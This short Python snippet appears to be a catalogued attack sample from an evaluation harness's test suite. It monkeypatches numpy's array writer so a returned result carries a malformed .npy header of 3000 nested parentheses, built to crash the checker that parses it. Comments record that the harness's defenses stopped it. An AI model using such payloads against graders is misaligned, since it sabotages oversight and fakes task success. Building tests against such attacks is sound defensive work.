"""Answer with an array whose header is nested deeper than a parser can follow, to break the reader on the other side."""
# stopped by: messages, checker
# says: got in the way of the checker


def vector(x):
    import numpy

    def write_array(stream, array, **_):
        header = b"(" * 3000 + b"\n"
        stream.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header)

    numpy.lib.format.write_array = write_array
    return numpy.ones(3)
